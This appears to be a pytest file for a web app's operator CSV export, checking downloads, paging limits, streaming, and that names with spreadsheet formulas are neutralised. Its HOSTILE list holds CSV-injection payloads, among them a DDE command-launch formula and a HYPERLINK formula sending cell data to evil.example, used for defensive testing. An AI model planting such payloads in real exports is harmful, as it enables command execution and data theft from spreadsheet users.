"""The list as a file: the rows of the page, safe in a spreadsheet, and never more than so many."""

import csv
import io
from datetime import UTC, datetime

import pytest

from app.domain.roles import Role
from app.store.stages import Stage
from app.views.operator.export import COLUMNS
from tests.in_process import Site
from tests.operators import account, signed_in_as
from tests.plain_browser import PlainBrowser
from tests.web.operator_list.listed import change, make
from tests.web.sent_rows import id_of, put, sent

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1;"Ada")',
    "+1-2",
    "-2+3",
    "@SUM(1+1)",
    'Ada", "=1+1", "',
    "Ada;=1+1",
    "Ada\u2028=1",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
)
HEADINGS = list(COLUMNS)


def rows(text: str) -> list[dict[str, str]]:
    """Return what a spreadsheet reads."""
    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    headings, *found = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True)
    assert headings == HEADINGS
    assert {len(row) for row in found} <= {len(HEADINGS)}
    return [dict(zip(headings, row, strict=True)) for row in found]


def download(operator: PlainBrowser, query: str = "") -> list[dict[str, str]]:
    answer = operator.session.get(f"http://127.0.0.1:5000/operator/onboardings.csv{query}", timeout=30)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return rows(answer.content.decode("utf-8"))


def test_a_viewer_downloads_what_the_list_shows(own: Site) -> None:
    person = sent(own, "anaplan_mine", auth_mode="Basic")
    put(own, id_of(person), connection_id="lost_boat", state="connected")
    change(own, id_of(person), Stage.CONNECTED, certificate_ends_at=datetime(2027, 1, 2, 3, 4, 5, tzinfo=UTC))
    ended = make(own, "Grace")
    change(own, ended, Stage.ENDED, revoked_at=datetime.now(UTC))
    viewer = signed_in_as(own, account(own, "vera", Role.VIEWER)).open("/operator/")
    viewer.follow("Download all as CSV")
    disposition = f'attachment; filename="onboardings-{datetime.now(UTC):%Y-%m-%d}.csv"'
    assert viewer.answer.headers["Content-Disposition"] == disposition
    assert "Next-Cursor" not in viewer.answer.headers
    grace, mine = rows(viewer.answer.content.decode("utf-8"))
    assert (grace["recipient"], grace["state"], grace["id"]) == ("Grace", "Revoked", ended)
    assert {name: mine[name] for name in ("state", "destination", "schema", "connection")} == {
        "state": "Connected",
        "destination": "sandbox_warehouse",
        "schema": "anaplan_mine",
        "connection": "lost_boat",
    }
    assert mine["certificate ends"] == "2027-01-02 03:04:05"
    assert viewer.open(mine["page"]).heading == f"Onboarding {id_of(person)}"
    assert "right-password" not in str(mine)
    see = viewer.open("/operator/?stage=ended&search=grace").follow("Download these as CSV")
    assert [row["id"] for row in rows(see.answer.content.decode("utf-8"))] == [ended]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_text_in_one_cell_and_nothing_that_a_spreadsheet_runs(own: Site, name: str) -> None:
    onboarding_id = make(own, name, created_by=name)
    (row,) = download(own.operator())
    assert row["id"] == onboarding_id
    for cell in (row["recipient"], row["asked by"]):
        assert cell.replace("'", "") == name.replace("'", "")
        assert not any(part.strip()[:1] in ("=", "+", "-", "@") for part in cell.split(";"))


def test_what_is_too_much_for_one_file_is_said_in_its_name_and_where_to_go_on(
    own: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.views.operator.export.MOST", 5)
    monkeypatch.setattr("app.views.operator.export.BATCH", 2)
    made = [make(own, f"person {number}") for number in range(12)][::-1]
    operator = own.operator()
    found, query = [], ""
    for count, named in ((5, "onboardings-of-the-newest-5.csv"), (5, "newest-5.csv"), (2, "onboardings-20")):
        answer = operator.session.get(f"{own.url}/operator/onboardings.csv{query}", timeout=30)
        part = rows(answer.content.decode("utf-8"))
        assert len(part) == count
        assert named in answer.headers["Content-Disposition"]
        found += [row["id"] for row in part]
        query = f"?before={answer.headers.get('Next-Cursor', '')}"
    assert found == made
    assert query == "?before="
    assert [row["recipient"] for row in download(operator, "?search=person+1")] == ["person 11", "person 10"]
    assert [row["id"] for row in download(operator, f"?search={made[-1]}")] == [made[-1]]


def test_the_file_comes_in_parts_and_holds_no_transaction_meanwhile(
    own: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.views.operator.export.BATCH", 2)
    made = [make(own, f"person {number}") for number in range(4)]
    client = own.app.test_client()
    for cookie in own.operator().session.cookies:
        client.set_cookie(cookie.name, cookie.value or "", domain="127.0.0.1")
    parts = client.get("/operator/onboardings.csv", base_url=own.url).iter_encoded()
    begun = next(parts) + next(parts)
    assert made[3].encode() in begun
    assert made[1].encode() not in begun
    assert own.parts.database.engine.pool.checkedout() == 0  # type: ignore[attr-defined]  # of the pool in use
    make(own, "came later")
    rest = b"".join(parts)
    assert made[0].encode() in rest
    assert b"came later" not in begun + rest
